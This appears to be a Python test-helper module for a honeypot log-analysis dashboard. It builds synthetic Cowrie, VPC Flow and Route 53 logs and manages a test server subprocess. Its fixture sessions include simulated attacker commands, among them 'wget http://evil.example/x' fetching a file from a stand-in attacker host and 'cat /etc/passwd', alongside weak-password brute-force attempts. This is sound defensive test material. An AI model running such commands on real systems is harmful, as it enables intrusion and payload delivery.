# SPDX-License-Identifier: MIT
"""Helpers for the dashboard tests (not collected: no test_ prefix).

A small lake with hand-countable content from four formats (Cowrie JSON,
honeyfarm event JSON lines with sensor identity, VPC Flow Logs v2, Route 53
query logs), a TTY log, an in-process ``TestClient`` and a real
``honeyfarm serve`` subprocess with bounded waits.

    session    sensor   format     src_ip         start                events
    c0ffee01   cow-fra  cowrie     8.8.8.8        2026-11-20T08:00:00  10   (TTY log)
    c0ffee02   cow-fra  cowrie     1.1.1.1        2026-11-20T09:30:00   6
    c0ffee03   cow-fra  cowrie     77.88.8.8      2026-11-21T10:00:00   8
    c0ffee04   cow-fra  cowrie     10.0.0.1       2026-11-21T11:00:00   3   (private: no country)
    5e550001   s-eu     honeyfarm  5.255.255.5    2026-11-20T12:00:00   4
    5e550003   s-eu     honeyfarm  8.8.8.8        2026-11-20T15:00:00   2
    5e550002   s-us     honeyfarm  9.9.9.9        2026-11-21T13:00:00   3   (heralding.*)
    (none)     (none)   vpcflow    various        2026-11-20T08:05:00   6   (one NODATA record)
    (none)     (none)   route53    various        2026-11-20T08:15:50   4

s-eu says it is in eu-west-1, exposed on a pastebin, at $0.01/hour; s-us is in
us-east-1, exposed by IP, at $0.02/hour; cow-fra (Cowrie) says nothing.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import queue
import re
import socket
import subprocess
import sys
import threading
import time
import uuid
import warnings
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from lakeutil import cli_env

from honeyfarm.config import Config
from honeyfarm.lake.store import Lake
from honeyfarm.pipeline import ingest
from honeyfarm.sql import sql_path, sql_paths

with warnings.catch_warnings():
    # Starlette 1.x prefers httpx2 for its TestClient and warns (once, at import) when it finds httpx.
    warnings.simplefilter("ignore", UserWarning)
    from fastapi.testclient import TestClient as TestClient  # re-exported for the test files

HASSH_A = "16443846184eafde36765c9bab2f4397"
HASSH_B = "b5752e36ba6c5979a575e43178908adf"
URL_X = "http://evil.example/x"
SHA_X = "ab" * 32
URL_Y = "http://evil.example/y.sh"
SHA_Y = "cd" * 32
TOTAL_EVENTS = 46
SENSORS = ("cow-fra", "s-eu", "s-us")

Step = tuple[str, dict[str, Any]]


def _steps(session: str, sensor: str, ip: str, start: str, steps: list[Step], key: str) -> list[dict[str, Any]]:
    t0 = dt.datetime.fromisoformat(start)
    out = []
    for i, (eventid, fields) in enumerate(steps):
        ts = (t0 + dt.timedelta(seconds=i)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        out.append({key: ts, "eventid": eventid, "sensor": sensor, "session": session, "src_ip": ip, **fields})
    return out


def cowrie_records() -> list[dict[str, Any]]:
    def s(session: str, ip: str, start: str, steps: list[Step]) -> list[dict[str, Any]]:
        return _steps(session, "cow-fra", ip, start, steps, "timestamp")

    return [
        *s("c0ffee01", "8.8.8.8", "2026-11-20T08:00:00", [
            ("cowrie.session.connect", {"src_port": 40001, "dst_ip": "10.9.0.1", "dst_port": 22, "protocol": "ssh"}),
            ("cowrie.client.version", {"version": "SSH-2.0-Go"}),
            ("cowrie.client.kex", {"hassh": HASSH_A}),
            ("cowrie.login.failed", {"username": "root", "password": "123456"}),
            ("cowrie.login.failed", {"username": "root", "password": "admin"}),
            ("cowrie.login.success", {"username": "root", "password": "toor"}),
            ("cowrie.command.input", {"input": "uname -a"}),
            ("cowrie.command.input", {"input": "wget http://evil.example/x"}),
            ("cowrie.session.file_download", {"url": URL_X, "shasum": SHA_X}),
            ("cowrie.session.closed", {"duration": 9.0}),
        ]),
        *s("c0ffee02", "1.1.1.1", "2026-11-20T09:30:00", [
            ("cowrie.session.connect", {"src_port": 40002, "dst_port": 22, "protocol": "ssh"}),
            ("cowrie.client.version", {"version": "SSH-2.0-libssh2_1.10.0"}),
            ("cowrie.client.kex", {"hassh": HASSH_B}),
            ("cowrie.login.failed", {"username": "admin", "password": "admin"}),
            ("cowrie.login.failed", {"username": "root", "password": "123456"}),
            ("cowrie.session.closed", {"duration": 5.0}),
        ]),
        *s("c0ffee03", "77.88.8.8", "2026-11-21T10:00:00", [
            ("cowrie.session.connect", {"src_port": 40003, "dst_port": 2222, "protocol": "ssh"}),
            ("cowrie.client.version", {"version": "SSH-2.0-Go"}),
            ("cowrie.client.kex", {"hassh": HASSH_A}),
            ("cowrie.login.success", {"username": "root", "password": "123456"}),
            ("cowrie.command.input", {"input": "uname -a"}),
            ("cowrie.command.input", {"input": "cat /etc/passwd"}),
            ("cowrie.session.file_download", {"url": URL_Y, "shasum": SHA_Y}),
            ("cowrie.session.closed", {"duration": 7.0}),
        ]),
        *s("c0ffee04", "10.0.0.1", "2026-11-21T11:00:00", [
            ("cowrie.session.connect", {}),
            ("cowrie.login.failed", {"username": "guest", "password": "guest"}),
            ("cowrie.session.closed", {"duration": 3.0}),
        ]),
    ]  # fmt: skip


def honeyfarm_records() -> list[dict[str, Any]]:
    eu = {"region": "eu-west-1", "hourly_cost": 0.01, "provider": "aws", "tags": {"exposure": "pastebin"}}
    us = {"region": "us-east-1", "hourly_cost": 0.02, "provider": "aws", "tags": {"exposure": "ip"}}

    def s(
        session: str, sensor: str, ip: str, start: str, steps: list[Step], ident: dict[str, Any]
    ) -> list[dict[str, Any]]:
        return [{**r, **ident} for r in _steps(session, sensor, ip, start, steps, "ts")]

    return [
        *s("5e550001", "s-eu", "5.255.255.5", "2026-11-20T12:00:00", [
            ("cowrie.session.connect", {"src_port": 50001, "dst_port": 22, "protocol": "ssh"}),
            ("cowrie.login.failed", {"username": "root", "password": "pass1"}),
            ("cowrie.command.input", {"command": "ls"}),
            ("cowrie.session.closed", {}),
        ], eu),
        *s("5e550003", "s-eu", "8.8.8.8", "2026-11-20T15:00:00", [
            ("cowrie.session.connect", {}),
            ("cowrie.login.failed", {"username": "root", "password": "123456"}),
        ], eu),
        *s("5e550002", "s-us", "9.9.9.9", "2026-11-21T13:00:00", [
            ("heralding.session.connect", {}),
            ("heralding.login.failed", {"username": "ubnt", "password": "ubnt"}),
            ("heralding.session.closed", {}),
        ], us),
    ]  # fmt: skip


VPC_HEADER = (
    "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
)
#: (srcaddr, dstport, action, bytes): the flows of vpc.log, in order.
VPC_FLOWS = [
    ("45.33.32.156", 22, "REJECT", 180),
    ("45.33.32.156", 23, "REJECT", 120),
    ("8.8.4.4", 443, "ACCEPT", 5000),
    ("1.0.0.1", 22, "ACCEPT", 900),
    ("77.88.8.1", 445, "REJECT", 60),
]
#: (timestamp, query name, type, resolver): the queries of route53.log.
R53_QUERIES = [
    ("2026-11-20T08:15:50.235Z", "example.com", "A", "8.8.4.4"),
    ("2026-11-20T08:16:10.000Z", "example.com", "A", "8.8.4.4"),
    ("2026-11-20T08:17:00.500Z", "example.com", "AAAA", "1.0.0.1"),
    ("2026-11-20T08:18:00.000Z", "honey.example.net", "TXT", "77.88.8.1"),
]


def vpc_lines() -> list[str]:
    t0 = int(dt.datetime(2026, 11, 20, 8, 5, tzinfo=dt.UTC).timestamp())
    lines = [VPC_HEADER]
    for i, (src, port, action, nbytes) in enumerate(VPC_FLOWS):
        start = t0 + 10 * i
        fields = f"{src} 10.0.0.5 {51000 + i} {port} 6 3 {nbytes} {start} {start + 60} {action} OK"
        lines.append(f"2 123456789012 eni-0a1b2c3d {fields}")
    lines.append(f"2 123456789012 eni-0a1b2c3d - - - - - - - {t0 + 100} {t0 + 160} - NODATA")
    return lines


def route53_lines() -> list[str]:
    return [f"1.0 {ts} Z123EXAMPLE {name} {qtype} NOERROR UDP FRA6 {ip} -" for ts, name, qtype, ip in R53_QUERIES]


def write_logs(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "cowrie.json": [json.dumps(r) for r in cowrie_records()],
        "spool.jsonl": [json.dumps(r) for r in honeyfarm_records()],
        "vpc.log": vpc_lines(),
        "route53.log": route53_lines(),
    }
    paths = []
    for name, lines in files.items():
        p = folder / name
        p.write_text("\n".join(lines) + "\n", encoding="utf-8")
        paths.append(p)
    return paths


def build_lake(root: Path) -> Path:
    """Ingest the logs above (in process, through the real pipeline) into ``root/lake``."""
    lake = root / "lake"
    result = ingest([str(p) for p in write_logs(root / "logs")], Config(), lake)
    assert result.errors == []
    assert result.dead_letter == 0
    assert result.ingested == TOTAL_EVENTS, result
    return lake


#: Dates ingest now refuses (dead-letter), as a lake written before the time window may hold them.
ABSURD = ["9999-12-31 23:59:59", "2262-04-11 23:47:16", "0001-01-01 00:00:00"]


def add_event(lake: Path, ts: str, n: int) -> None:
    """Copy one stored event (of :func:`build_lake`'s session c0ffee01) to ``ts`` (so a new event_id: the id
    is the stored row's natural key; ``n`` is unused since), sensor ``cow-old``, as a committed file with its
    rollups: what ingest without the time window wrote."""
    store = Lake(lake)
    with store.writer():
        con = store.connect()
        try:
            staged = store.new_staging() / "events"
            target = staged / f"date={ts[:10]}" / f"part-{uuid.uuid4()}.parquet"
            target.parent.mkdir(parents=True, exist_ok=True)
            con.execute(
                f"""COPY (SELECT * REPLACE (TIMESTAMP '{ts}' AS ts, 'cow-old' AS sensor)
                FROM read_parquet({sql_paths(store.all_files("events"))}, hive_partitioning=false)
                WHERE session = 'c0ffee01' LIMIT 1) TO {sql_path(target)} (FORMAT parquet)"""
            )
            store.commit_ingest(con, staged, staged.parent / "dead_letter")  # the file and its rollups
        finally:
            con.close()


#: TTY output with colour, a window title, a bell, NUL, backspace, an 8-bit CSI and CRLF line ends.
TTY_FRAMES: list[tuple[float, str]] = [
    (0.1, "\x1b[1;32mroot@svr04\x1b[0m:~# "),
    (0.5, "\x1b]0;root@svr04: ~\x07uname -a\r\n"),
    (0.9, "Linux svr04 3.2.0-4-amd64\x07\x00\x08 \x9b2J#1 SMP\r\n"),
    (1.25, "\x1b[H\x1b[2J\x1b[?25lbye\x1b[?25h\r\n"),
]
TTY_TEXT = ["root@svr04:~# ", "uname -a\n", "Linux svr04 3.2.0-4-amd64 #1 SMP\n", "bye\n"]


def write_ttylog(spool: Path, session: str, frames: list[tuple[float, str]] | None = None) -> Path:
    """An asciicast v2 file ``spool/tty/<session>.cast`` (plus an input frame, which is not output)."""
    p = spool / "tty" / f"{session}.cast"
    p.parent.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps({"version": 2, "width": 100, "height": 30, "timestamp": 1795680000})]
    for t, text in frames if frames is not None else TTY_FRAMES:
        lines.append(json.dumps([t, "o", text]))
    lines.insert(2, json.dumps([0.3, "i", "typed"]))
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return p


# ------------------------------------------------------------------ processes


def serve_env(**extra: str) -> dict[str, str]:
    """:func:`cli_env` without dashboard credentials from the caller's environment (unless given in ``extra``)."""
    env = cli_env(**extra)
    for k in ("HONEYFARM_SERVE_TOKEN", "HONEYFARM_SERVE_PASSWORD"):
        if k not in extra:
            env.pop(k, None)
    return env


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def listening(port: int, host: str = "127.0.0.1") -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(1.0)
        return s.connect_ex((host, port)) == 0


READY = re.compile(r"honeyfarm dashboard: (https?)://(\S+?):(\d+)/")


@dataclass
class Served:
    """A running ``honeyfarm serve`` subprocess."""

    proc: subprocess.Popen[str]
    scheme: str = ""
    port: int = 0
    stderr: list[str] = field(default_factory=list)
    drain: threading.Thread | None = None

    @property
    def url(self) -> str:
        """The base URL, always over loopback (whatever address the server bound)."""
        return f"{self.scheme}://127.0.0.1:{self.port}"

    def output(self) -> str:
        return "".join(self.stderr)


def start_serve(*args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 30) -> Served:
    """Start ``honeyfarm serve ARGS`` (pass ``--port 0``) and wait until it says where it listens."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "honeyfarm.cli", "serve", *args],
        cwd=cwd,
        env=env if env is not None else serve_env(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
    )
    served = Served(proc)
    lines: queue.Queue[str | None] = queue.Queue()

    def drain() -> None:
        assert proc.stderr is not None
        for line in proc.stderr:
            served.stderr.append(line)
            lines.put(line)
        lines.put(None)

    served.drain = threading.Thread(target=drain, daemon=True)
    served.drain.start()
    deadline = time.monotonic() + timeout
    try:
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                raise AssertionError(f"honeyfarm serve did not start within {timeout} s:\n{served.output()}")
            try:
                line = lines.get(timeout=left)
            except queue.Empty:
                continue
            if line is None:
                proc.wait(timeout=10)
                raise AssertionError(f"honeyfarm serve exited {proc.returncode}:\n{served.output()}")
            m = READY.search(line)
            if m:
                served.scheme, served.port = m.group(1), int(m.group(3))
                return served
    except BaseException:
        stop_serve(served)
        raise


def stop_serve(served: Served) -> None:
    proc = served.proc
    if proc.poll() is None:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)
    if served.drain is not None:
        served.drain.join(timeout=10)
    if proc.stderr is not None:
        proc.stderr.close()


@contextlib.contextmanager
def serving(*args: str, cwd: Path, env: dict[str, str] | None = None) -> Iterator[Served]:
    served = start_serve(*args, cwd=cwd, env=env)
    try:
        yield served
    finally:
        stop_serve(served)
